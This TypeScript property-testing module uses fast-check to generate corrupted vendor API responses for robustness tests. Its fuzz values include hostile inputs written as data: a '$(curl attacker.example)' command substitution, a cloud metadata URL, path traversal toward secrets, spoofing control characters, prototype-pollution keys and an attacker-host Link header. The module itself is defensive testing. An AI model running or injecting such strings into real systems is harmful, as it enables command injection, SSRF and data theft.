// A vendor's answer as it never should be: one place of its JSON changed, or the whole of it cut, wrapped or called
// something else.
import fc from 'fast-check'
import type { Json } from '#incident/tool-call.ts'
import type { Answer } from './replayed-vendors.ts'

/** `where`: which of the places, 0 up to 1. */
export type Spoiling = { where: number } & (
  | { kind: 'drop' | 'wrap' | 'double' | 'many' }
  | { kind: 'put'; value: Json }
  | { kind: 'put long'; text: keyof typeof LONG }
  | { kind: 'add'; key: string; value: Json }
  | { kind: 'cut' }
  | { kind: 'body'; body: keyof typeof BODIES }
  | { kind: 'type'; contentType: string }
  | { kind: 'status'; status: number; retryAfter: string }
  | { kind: 'link'; link: string }
)

/** Text that is markup, code or longer than all else; numbers and dates at the edge and over it. */
const ODD: readonly Json[] = [
  null,
  true,
  false,
  0,
  -1,
  0.1,
  -1e308,
  Number.MAX_SAFE_INTEGER,
  8_640_000_000_000_001, // one past the last date
  '',
  ' ',
  'NaN',
  'null',
  '-5m',
  '2026-13-45T99:99:99Z',
  '+275760-09-13T00:00:00.001Z',
  '0000-00-00T00:00:00Z',
  '\u202Eevil\u0000\u001b[31m\u200b',
  'a\u0000b',
  '\u2066evil\u2069\u200b',
  '\ud800',
  '<!channel> <@U1> `</tool>` [a](javascript:x)',
  '..',
  '.',
  '../../api/v1/secrets',
  'http://169.254.169.254/latest/meta-data',
  '$(curl attacker.example)',
  '(a+)+$',
  [],
  {},
  [[[]]],
  [null],
  { length: 3 },
]

/** By name, as nobody wants to read them where a test fails. */
const LONG = {
  'without a break': 'x'.repeat(100_000),
  'like secrets': 'x='.repeat(50_000),
  'of lines': '\n'.repeat(10_000),
}

const BODIES = {
  empty: '',
  null: 'null',
  list: '[]',
  map: '{}',
  text: '"text"',
  infinite: '1e999',
  'infinite items': '{"items":1e999}',
  'deep lists': '['.repeat(20_000),
  'deep maps': `${'{"a":'.repeat(5000)}1${'}'.repeat(5000)}`,
  page: '<!doctype html><title>Sign in</title>',
  'byte order': '\ufeff{}',
  status: '{"kind":"Status","code":410,"metadata":{"continue":"x"}}',
  error: '{"error":{"message":"x"}}',
  endless: 'x'.repeat(1_000_000),
}

/** Written out in the text alone, as no value of JavaScript says it. */
const TWICE = '\u0001twice\u0001'

// Not fc.double: most of those are next to nothing, and so always the outermost place.
const place = fc.noBias(fc.nat(999_999)).map(nth => nth / 1_000_000)
const odd = fc.oneof(
  { arbitrary: fc.constantFrom(...ODD), weight: 3 },
  { arbitrary: fc.jsonValue({ maxDepth: 3 }).map(value => value as Json), weight: 1 },
)

export const spoiling: fc.Arbitrary<Spoiling> = fc.oneof(
  { arbitrary: fc.record({ kind: fc.constant('put' as const), where: place, value: odd }), weight: 8 },
  {
    arbitrary: fc.record({
      kind: fc.constant('put long' as const),
      where: place,
      text: fc.constantFrom(...namesOf(LONG)),
    }),
    weight: 1,
  },
  { arbitrary: fc.record({ kind: fc.constantFrom('drop', 'wrap', 'double', 'many'), where: place }), weight: 6 },
  {
    arbitrary: fc.record({
      kind: fc.constant('add' as const),
      where: place,
      key: fc.constantFrom('__proto__', 'constructor', 'toString', 'then', 'length', 'continue', 'nextToken', '__type'),
      value: odd,
    }),
    weight: 2,
  },
  { arbitrary: fc.record({ kind: fc.constant('cut' as const), where: place }), weight: 1 },
  {
    arbitrary: fc.record({
      kind: fc.constant('body' as const),
      where: place,
      body: fc.constantFrom(...namesOf(BODIES)),
    }),
    weight: 1,
  },
  {
    arbitrary: fc.record({
      kind: fc.constant('type' as const),
      where: place,
      contentType: fc.constantFrom('text/html', 'application/cbor', 'application/xml', 'image/png', '', 'rubbish'),
    }),
    weight: 1,
  },
  {
    arbitrary: fc.record({
      kind: fc.constant('status' as const),
      where: place,
      status: fc.constantFrom(
        201,
        204,
        206,
        301,
        302,
        304,
        400,
        401,
        403,
        404,
        409,
        410,
        413,
        418,
        422,
        429,
        500,
        503,
        504,
        599,
      ),
      retryAfter: fc.constantFrom('', '0', '-1', '1e999', 'soon', '99999999999999', 'Tue, 03 Nov 2099 14:00:00 GMT'),
    }),
    weight: 2,
  },
  {
    arbitrary: fc.record({
      kind: fc.constant('link' as const),
      where: place,
      link: fc.constantFrom(
        '<http://attacker.example/>; rel="next"; results="true"; cursor="0:100:0"',
        'rel="next"; results="true"; cursor="../../../secrets"',
        `${'<'.repeat(5000)}; rel="next"`,
        ',,,;;;',
      ),
    }),
    weight: 1,
  },
)

function namesOf<Named extends object>(named: Named): (keyof Named)[] {
  return Object.keys(named) as (keyof Named)[]
}

export function spoil(answer: Answer, how: Spoiling): Answer {
  const { headers, body } = answer
  switch (how.kind) {
    case 'cut':
      return { ...answer, body: body.slice(0, Math.floor(how.where * body.length)) }
    case 'body':
      return { ...answer, body: BODIES[how.body] }
    case 'type':
      return { ...answer, headers: { ...headers, 'content-type': how.contentType } }
    case 'status':
      return { ...answer, status: how.status, headers: { ...headers, 'retry-after': how.retryAfter } }
    case 'link':
      return { ...answer, headers: { ...headers, link: how.link } }
    default:
      return { ...answer, body: respelt(body, how) }
  }
}

type Place = { holder: Record<string, Json> | Json[]; key: string }

/** A body of lines, as a watch has it or a log, is spoilt in one of them. */
function respelt(body: string, how: Spoiling): string {
  const lines = body.split('\n')
  const nth = lines.length > 2 ? Math.floor(how.where * lines.length) : 0
  const line = lines[nth] ?? ''
  const whole = parsed(line) ?? parsed(body)
  if (whole === undefined)
    return body.slice(0, Math.floor(how.where * body.length)).concat(String.fromCharCode(0, 0x202e), body)
  const changed = changedIn(whole, how)
  return parsed(line) === undefined ? changed : lines.with(nth, changed).join('\n')
}

function parsed(text: string): Json | undefined {
  try {
    return JSON.parse(text) as Json
  } catch {
    return undefined
  }
}

function changedIn(value: Json, how: Spoiling): string {
  const root = { root: value }
  const places = placesIn(root)
  const { holder, key } = places[Math.floor(how.where * places.length)] ?? { holder: root, key: 'root' }
  const at = holder as Record<string, Json>
  const old = at[key] as Json
  switch (how.kind) {
    case 'drop':
      if (Array.isArray(holder)) holder.splice(Number(key), 1)
      else delete at[key]
      break
    case 'put':
      at[key] = how.value
      break
    case 'put long':
      at[key] = LONG[how.text]
      break
    case 'wrap':
      at[key] = Array.isArray(old) ? { items: old } : [old]
      break
    case 'double':
      if (Array.isArray(holder)) holder.push(old)
      else at[TWICE + key] = key.length % 2 === 0 ? null : [old]
      break
    case 'many':
      at[key] = Array.from({ length: Math.ceil(MANY_BYTES / (JSON.stringify(old)?.length ?? 1)) }, () => old)
      break
    case 'add':
      if (old !== null && typeof old === 'object' && !Array.isArray(old))
        Object.defineProperty(old, how.key, { value: how.value, enumerable: true, configurable: true, writable: true })
      break
  }
  return (JSON.stringify(root.root) ?? '').replaceAll(JSON.stringify(TWICE).slice(1, -1), '')
}

const MANY_BYTES = 200_000 // of the same value again and again, over what any answer may be
const MOST_PLACES = 20_000

/** Each value within, the outermost first. */
function placesIn(root: Record<string, Json>): Place[] {
  const places: Place[] = []
  const take = (holder: Place['holder']): void => {
    for (const [key, value] of Object.entries(holder)) {
      if (places.length >= MOST_PLACES) return
      places.push({ holder, key })
      if (value !== null && typeof value === 'object') take(value)
    }
  }
  take(root)
  return places
}
